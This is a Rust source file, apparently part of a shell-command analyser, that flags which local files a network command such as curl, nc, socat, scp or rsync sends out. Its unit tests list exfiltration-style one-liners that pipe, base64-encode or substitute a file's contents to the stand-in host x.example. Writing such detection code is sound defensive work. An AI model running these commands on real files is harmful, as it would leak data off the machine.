//! What leaves the machine: files that a command on the network sends, or is fed.

use alloc::vec::Vec;

use crate::script::{Command, Effect, EffectKind, Script, Word};

/// Longer chains of pipes are not followed.
const MOST_PIPES: usize = 8;
/// So many commands before are looked at for what a substitution holds.
const MOST_BEFORE: usize = 8;

/// Options whose file is read, and stays here.
const KEPT: &[&str] = &[
    "-E",
    "-K",
    "-i",
    "--cacert",
    "--capath",
    "--cert",
    "--certificate",
    "--config",
    "--input-file",
    "--key",
    "--private-key",
];

/// Adds to each command on the network the files that it sends.
pub(crate) fn mark(script: &mut Script) {
    for index in 0..script.commands.len() {
        let Some(command) = script.commands.get(index).filter(|command| sends(command)) else {
            continue;
        };
        let mut files = Vec::new();
        own(command, &mut files);
        let mut at = command.piped_from;
        for _ in 0..MOST_PIPES {
            let Some(feeds) = at.and_then(|index| script.commands.get(index)) else { break };
            files.extend(read_by(feeds));
            at = feeds.piped_from;
        }
        let before = script.commands.get(index.saturating_sub(MOST_BEFORE)..index);
        for earlier in before.unwrap_or_default() {
            substituted(command, earlier, &mut files);
        }
        if let Some(command) = script.commands.get_mut(index) {
            command.effects.extend(files.into_iter().map(|target| Effect {
                kind: EffectKind::Send,
                target: Some(target),
                recursive: false,
                forced: false,
            }));
        }
    }
}

fn sends(command: &Command) -> bool {
    match command.name() {
        "rsync" | "scp" | "sftp" => command.args.last().is_some_and(is_remote),
        _ => command.effects.iter().any(|effect| effect.kind == EffectKind::Network),
    }
}

/// `host:path`, `user@host:`
fn is_remote(word: &Word) -> bool {
    word.text.split_once(':').is_some_and(|(host, _)| host.len() > 1 && !host.contains('/'))
}

fn read_by(command: &Command) -> impl Iterator<Item = Word> {
    let read = command.effects.iter().filter(|effect| effect.kind == EffectKind::Read);
    read.filter_map(|effect| effect.target.clone())
}

/// What it reads itself, but for keys and settings of its own.
fn own(command: &Command, files: &mut Vec<Word>) {
    let kept = |file: &Word| {
        command.args.windows(2).any(|pair| match pair {
            [option, value] => value.text == file.text && KEPT.contains(&option.text.as_str()),
            _ => false,
        })
    };
    files.extend(read_by(command).filter(|file| !kept(file)));
}

/// `curl -d "$(cat file)"`: what an argument is made of was read just before.
fn substituted(command: &Command, earlier: &Command, files: &mut Vec<Word>) {
    for word in command.args.iter().filter(|word| !word.literal) {
        let whole = word.text.as_str();
        if (whole.contains("$(") || whole.contains('`')) && whole.contains(&earlier.program.text) {
            files.extend(read_by(earlier).filter(|file| whole.contains(&file.text)));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{Dialect, EffectKind, Limits, read};

    fn sends(line: &str) -> bool {
        let script = read(line, Dialect::Posix, Limits::default());
        let mut effects = script.commands.iter().flat_map(|command| &command.effects);
        effects.any(|effect| {
            effect.kind == EffectKind::Send && effect.target.as_ref().is_some_and(|t| t.text == "f")
        })
    }

    #[test]
    fn files_that_leave() {
        for line in [
            "cat f | curl -d @- x.example",
            "tar czf - f | base64 | nc x.example 1",
            "curl -T f x.example",
            "curl -d @f x.example",
            "curl -d \"$(cat f)\" x.example",
            "curl x.example/`base64 f`",
            "nc x.example 1 < f",
            "socat OPEN:f TCP:x.example:1",
            "tar -cf host:/a f",
            "scp f host:",
            "rsync -a f me@host:d",
        ] {
            assert!(sends(line), "{line}");
        }
    }

    #[test]
    fn files_that_stay() {
        for line in [
            "cat f; curl x.example",
            "curl --key f x.example",
            "curl -o f x.example",
            "scp host:f .",
            "rsync -a f g",
            "cat f | sh",
        ] {
            assert!(!sends(line), "{line}");
        }
    }
}
